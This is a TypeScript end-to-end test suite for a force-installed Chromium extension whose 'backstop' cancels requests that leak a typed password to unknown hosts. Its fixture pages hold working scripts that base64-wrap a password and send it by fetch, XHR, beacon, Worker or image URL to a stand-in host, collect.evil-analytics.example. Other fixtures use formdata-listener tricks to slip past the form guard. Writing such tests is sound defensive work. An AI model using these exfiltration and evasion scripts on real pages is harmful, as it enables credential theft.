// The backstop in real Chromium, with the extension force-installed the way admins install it (the only
// way Chromium grants blocking webRequest to an MV3 extension): a page that gets a typed password past
// the form guard — base64-wrapped in a fetch, an XHR or a beacon, from a dedicated Worker, in an image
// URL — has the request cancelled before it leaves, a notice naming the clause in the tab, and one audit
// event. The same to the organisation's own https site arrives, and what the user confirmed in the guard's
// dialog arrives, once, with its one-time grant (destination and body digest): a form post, and each request of
// a confirmed flow; a different body sent there after the confirmation is cancelled.
import type { CDPSession, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { findByTestId, waitForTypedValues } from './browser.ts';
import { launchForceInstalled, type ForceInstalled } from './force-install.ts';
import { startTestServer, type TestServer } from './server.ts';

const PASSWORD = 'Tr0ub4dor&3x-e2e';
const EVIL = 'https://collect.evil-analytics.example';
const OWN = 'https://www.ssk.or.jp';

const html = (title: string, body: string, script = '') =>
  `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>${title}</title></head>` +
  `<body><h1>${title}</h1>${body}<script>${script}</script></body></html>`;

// The page's own code: it reads the password field and sends it where it likes, wrapped so that the
// form guard's classification of script bodies does not recognise it.
const EXFIL = `
  window.send = (how, url) => new Promise((done) => {
    const pw = document.getElementById('pw').value;
    const body = JSON.stringify({ d: btoa(pw) });
    if (how === 'fetch') fetch(url, { method: 'POST', body, mode: 'no-cors' }).then(() => done('sent'), (e) => done('failed'));
    if (how === 'xhr') { const x = new XMLHttpRequest(); x.open('POST', url); x.onload = () => done('sent'); x.onerror = () => done('failed'); x.send(body); }
    if (how === 'beacon') done(navigator.sendBeacon(url, body) ? 'queued' : 'refused');
    if (how === 'worker') {
      const w = new Worker(URL.createObjectURL(new Blob([
        'onmessage = (e) => fetch(e.data.url, { method: "POST", body: e.data.pw, mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage("failed"));'
      ], { type: 'text/javascript' })));
      w.onmessage = (e) => done(e.data);
      w.postMessage({ url, pw });
    }
    if (how === 'image') { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('failed'); i.src = url + '?v=' + encodeURIComponent(pw); }
  });`;

// A trick that still gets past the form guard (issue 11; the guard now catches the field disabled at
// pointerdown, test/e2e/adversarial.test.ts): the password field has no name, so the guard's look at the form
// finds nothing to protect, and the page's own formdata listener, stopping every other, adds it wrapped.
const DISABLED_TRICK = html(
  'trick',
  `<form id="f" method="post" action="${EVIL}/steal">
     <input id="pw" type="password"><button id="go">ログイン</button></form>`,
  `f.addEventListener('formdata', (e) => { e.formData.append('d', btoa(pw.value)); e.stopImmediatePropagation(); });`,
);
const LOGIN = html('login', '<label>パスワード <input id="pw" name="pw" type="password"></label>', EXFIL);
const FORM = html(
  'form',
  `<form id="f" method="post" action="https://forms.example.net/post">
     <input id="pw" name="password" type="password"><button id="go">送信</button></form>`,
);

// A confirmed upload that takes two requests: the page's submit handler sends the form's data by fetch to an
// endpoint of its own (the confirmation's grant covers that one), then its metadata (confirmed on its own).
const UPLOAD = html(
  'upload',
  `<form id="f" method="post" enctype="multipart/form-data" action="https://forms.example.net/upload">
     <input id="pw" name="password" type="password"><input id="file" name="doc" type="file"><button id="go">送信</button></form>`,
  `f.addEventListener('submit', async (e) => {
     e.preventDefault();
     const out = [];
     for (const [to, body] of [['file', new FormData(f)], ['meta', JSON.stringify({ pw: pw.value, part: 'meta' })]])
       out.push(await fetch(f.action + '/' + to, { method: 'POST', body, mode: 'no-cors' }).then(() => 'sent', () => 'failed'));
     document.title = out.join(',');
   });`,
);
// After the user confirmed the form, the page's own formdata listener (stopping every other) adds the password
// again, wrapped: the browser sends a body that is not the one confirmed.
const CHANGER = html(
  'changer',
  `<form id="f" method="post" action="https://forms.example.net/post">
     <input id="pw" name="password" type="password"><button id="go">送信</button></form>`,
  `f.addEventListener('formdata', (e) => { e.formData.append('d', btoa(pw.value)); e.stopImmediatePropagation(); });`,
);

async function clickTestId(page: Page, cdp: CDPSession, testid: string, timeout = 10_000) {
  const start = Date.now();
  let n = await findByTestId(cdp, testid);
  while (!n) {
    if (Date.now() - start > timeout) throw new Error(`no ${testid}`);
    await page.waitForTimeout(100);
    n = await findByTestId(cdp, testid);
  }
  const { model } = (await cdp.send('DOM.getBoxModel', { backendNodeId: n.backendNodeId })) as {
    model: { content: number[] };
  };
  const q = model.content;
  await page.mouse.click((q[0]! + q[4]!) / 2, (q[1]! + q[5]!) / 2);
}

type AuditEvent = { kind: string; rule?: string; clause?: string; target?: string; detail?: Record<string, string> };

describe('the backstop, force-installed', () => {
  let server: TestServer;
  let b: ForceInstalled;
  let page: Page;
  let mark = 0;
  const seen = (host: string) => server.requests.slice(mark).filter((r) => r.host === host);
  const audit = () =>
    b.worker.evaluate(
      async () =>
        (((await chrome.storage.local.get('auditLog')).auditLog ?? { events: [] }) as { events: unknown[] }).events,
    ) as Promise<AuditEvent[]>;

  /** Types the password the way a user does, and waits until the worker holds its hashes. */
  async function typePassword(p: Page) {
    await p.locator('#pw').pressSequentially(PASSWORD);
    await waitForTypedValues(b.worker, p.url());
  }

  beforeAll(async () => {
    server = await startTestServer();
    server.route('www.ssk.or.jp', (req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'access-control-allow-origin': '*' });
      const pages: Record<string, string> = { form: FORM, trick: DISABLED_TRICK, upload: UPLOAD, changer: CHANGER };
      res.end(pages[req.url?.slice(1) ?? ''] ?? LOGIN);
    });
    b = await launchForceInstalled({ hostPort: server.port });
    // Granted here, unlike an unpacked build (backstop-off.test.ts).
    for (let i = 0; ; i++) {
      const status = await b.worker.evaluate(
        async () => (await chrome.storage.local.get('backstopStatus')).backstopStatus as { enforcing?: boolean },
      );
      if (status) {
        expect(status.enforcing).toBe(true);
        break;
      }
      if (i > 100) throw new Error('the backstop status never came');
      await new Promise((r) => setTimeout(r, 100));
    }
    page = await b.context.newPage();
  });
  afterAll(async () => {
    await b?.close();
    await server?.close();
  });
  beforeEach(async () => {
    await page.close();
    page = await b.context.newPage();
    mark = server.requests.length;
  });

  it.each(['fetch', 'xhr', 'beacon', 'worker', 'image'])(
    'a typed password sent by %s to an unknown host is cancelled; to the organisation’s https site it arrives',
    async (how) => {
      await page.goto(`${OWN}/login`);
      await typePassword(page);
      const cancelled = await page.evaluate(([h, u]) => (window as any).send(h, u), [how, `${EVIL}/c`] as const);
      if (how !== 'beacon') expect(cancelled).toBe('failed');
      if (process.env.SSK_SCREENSHOTS && how === 'fetch') {
        await page.waitForTimeout(500);
        await page.screenshot({ path: 'docs/backstop-notice.png' });
      }
      const arrived = await page.evaluate(([h, u]) => (window as any).send(h, u), [how, `${OWN}/api`] as const);
      if (how !== 'beacon' && how !== 'image') expect(arrived).toBe('sent'); // the test page is no image
      await expect.poll(() => seen('www.ssk.or.jp').filter((r) => r.url.startsWith('/api')).length).toBe(1);
      // The notice names the clause, in both languages.
      await expect
        .poll(() => page.evaluate(() => document.getElementById('ssk-guard-backstop-notice')?.dataset.text ?? ''))
        .toContain('8.1.1(5)(f)(ｲ)');
      const text = await page.evaluate(() => document.getElementById('ssk-guard-backstop-notice')!.dataset.text!);
      expect(text).toContain('送信を止めました');
      expect(text).toContain('stopped');
      expect(seen('collect.evil-analytics.example')).toEqual([]);
    },
  );

  it('the event is logged once, with its rule and clause, and never the value', async () => {
    await page.goto(`${OWN}/login`);
    await typePassword(page);
    const before = (await audit()).length;
    for (let i = 0; i < 3; i++) await page.evaluate((u) => (window as any).send('fetch', u), `${EVIL}/again`);
    await page.evaluate((u) => (window as any).send('fetch', u), `${OWN}/api`); // passes; logs nothing
    // Each cancel decided at once whether to log, and a write it started is queued on the log's one chain
    // before its send failed. A later event through the same chain, seen in the log, proves every such
    // write has landed: a blocked navigation in another tab.
    const shorteners = async () => (await audit()).filter((e) => e.kind === 'block' && e.rule === 'shortener').length;
    const marks = await shorteners();
    const marker = await b.context.newPage();
    await marker.goto('https://bit.ly/backstop-marker').catch(() => undefined);
    await expect.poll(shorteners, { timeout: 15_000 }).toBeGreaterThan(marks);
    await marker.close();
    const events = (await audit()).slice(before).filter((e) => e.detail?.path === 'backstop');
    expect(events).toHaveLength(1); // three attempts, one event
    expect(events[0]).toMatchObject({ kind: 'block', rule: 'unknown-organization', clause: '8.1.1(5)(f)(ｲ)' });
    expect(events[0]!.detail).toMatchObject({ type: 'xmlhttprequest', fields: 'password', page: 'www.ssk.or.jp' });
    expect(JSON.stringify(await audit())).not.toContain(PASSWORD);
    expect(JSON.stringify(await audit())).not.toContain(btoa(PASSWORD));
    expect(seen('collect.evil-analytics.example')).toEqual([]);
  });

  it('the typed-value hashes outlive the worker: stopped and started again, it still cancels', async () => {
    await page.goto(`${OWN}/login`);
    await typePassword(page); // this tab's hashes are in storage.session
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('ServiceWorker.enable');
    await cdp.send('ServiceWorker.stopAllWorkers');
    // Woken by something else first (an extension page), so that its hashes are read back before the send.
    const other = await b.context.newPage();
    await other.goto(`chrome-extension://${b.extensionId}/popup.html`);
    // The worker running now (a stopped one's handle may linger without answering) reads storage.session
    // once more: answered after the read-back it started as it woke, so the hashes are in its memory.
    const start = Date.now();
    for (let woke = false; !woke;) {
      for (const w of b.context
        .serviceWorkers()
        .filter((x) => x.url().startsWith(`chrome-extension://${b.extensionId}/`))
        .reverse()) {
        woke = await Promise.race([
          w
            .evaluate(
              async () =>
                ((await chrome.storage.session.get('backstopSeen')).backstopSeen as object | undefined) !== null,
            )
            .catch(() => false),
          new Promise<boolean>((r) => setTimeout(() => r(false), 500)),
        ]);
        if (woke) {
          b.worker = w;
          break;
        }
      }
      if (!woke && Date.now() - start > 15_000) throw new Error('the worker did not start again');
      if (!woke) await other.waitForTimeout(50);
    }
    await other.close();
    expect(await page.evaluate((u) => (window as any).send('fetch', u), `${EVIL}/after-restart`)).toBe('failed');
    expect(seen('collect.evil-analytics.example')).toEqual([]);
  });

  it('a form post that slipped past the guard is cancelled; the frame shows the notice instead', async () => {
    await page.goto(`${OWN}/trick`);
    await typePassword(page);
    await Promise.all([page.waitForURL(/backstop-notice\.html#/), page.click('#go')]);
    expect(page.url()).toContain(`chrome-extension://${b.extensionId}/`);
    const notice = page.getByTestId('backstop-notice');
    await notice.waitFor();
    expect(await notice.getAttribute('data-clause')).toBe('8.1.1(5)(f)(ｲ)');
    const text = await notice.textContent();
    expect(text).toContain('送信を止めました');
    expect(text).toContain('collect.evil-analytics.example');
    expect(seen('collect.evil-analytics.example')).toEqual([]);
  });

  /** The guard's log lines about the backstop grants it asked for (its isolated world logs to the page's console). */
  function grantLog(p: Page): string[] {
    const lines: string[] = [];
    p.on('console', (m) => {
      if (m.text().includes('backstop grant')) lines.push(m.text());
    });
    return lines;
  }
  async function confirmDialog(p: Page, cdp: CDPSession) {
    // The confirmation arms itself after a moment: wait for its send to be enabled (a loaded machine runs
    // the page's timer late, and a click on the disabled button is lost), not for a fixed time.
    const start = Date.now();
    for (;;) {
      const n = await findByTestId(cdp, 'send');
      const a = n?.attributes ?? [];
      if (n && !a.some((x, i) => i % 2 === 0 && x === 'disabled')) break;
      if (Date.now() - start > 15_000) throw new Error('no armed send');
      await p.waitForTimeout(50);
    }
    await clickTestId(p, cdp, 'send');
  }

  it('a form post the user confirmed in the dialog arrives once, with its grant', async () => {
    const log = grantLog(page);
    await page.goto(`${OWN}/form`);
    await typePassword(page);
    const cdp = await page.context().newCDPSession(page);
    await page.click('#go');
    await Promise.all([page.waitForURL('https://forms.example.net/post'), confirmDialog(page, cdp)]);
    const posts = seen('forms.example.net').filter((r) => r.method === 'POST');
    expect(posts).toHaveLength(1);
    expect(posts[0]!.body).toContain('password=');
    expect(log).toHaveLength(1);
    expect(log[0]).toMatch(/\(body digest\) in force after/);
    console.log(`confirmed form post: ${log[0]}`);
  });

  it('a confirmed upload that takes two requests: both arrive, each with its own grant', async () => {
    const log = grantLog(page);
    await page.goto(`${OWN}/upload`);
    await typePassword(page);
    await page.setInputFiles('#file', {
      name: '見積書.pdf',
      mimeType: 'application/pdf',
      buffer: Buffer.from('%PDF-1.7 test'),
    });
    const cdp = await page.context().newCDPSession(page);
    await page.click('#go');
    await confirmDialog(page, cdp); // the form: its grant covers the page's first fetch
    await confirmDialog(page, cdp); // the metadata, confirmed on its own
    await page.waitForFunction(() => document.title.includes(','));
    expect(await page.title()).toBe('sent,sent');
    const posts = seen('forms.example.net').filter((r) => r.method === 'POST');
    expect(posts).toHaveLength(2);
    expect(posts.map((r) => r.url)).toEqual(['/upload/file', '/upload/meta']);
    expect(posts[0]!.body).toContain('filename="見積書.pdf"');
    expect(posts[1]!.body).toContain('"part":"meta"');
    // The form's own grant (never used: the page sent no form post), the first fetch's, the second's.
    expect(log.filter((l) => /\(body digest\) in force/.test(l))).toHaveLength(3);
    for (const l of log) console.log(`confirmed upload: ${l}`);
  });

  it('a page that sends another body after the user confirmed the form has it cancelled', async () => {
    const log = grantLog(page);
    await page.goto(`${OWN}/changer`);
    await typePassword(page);
    const cdp = await page.context().newCDPSession(page);
    await page.click('#go');
    await Promise.all([page.waitForURL(/backstop-notice\.html#/), confirmDialog(page, cdp)]);
    expect(log).toHaveLength(1); // the grant was asked for what was confirmed, and that did not leave
    const notice = page.getByTestId('backstop-notice');
    await notice.waitFor();
    expect(await notice.getAttribute('data-clause')).toBe('8.1.1(5)(f)(ｲ)');
    expect(seen('forms.example.net')).toEqual([]);
  });
});
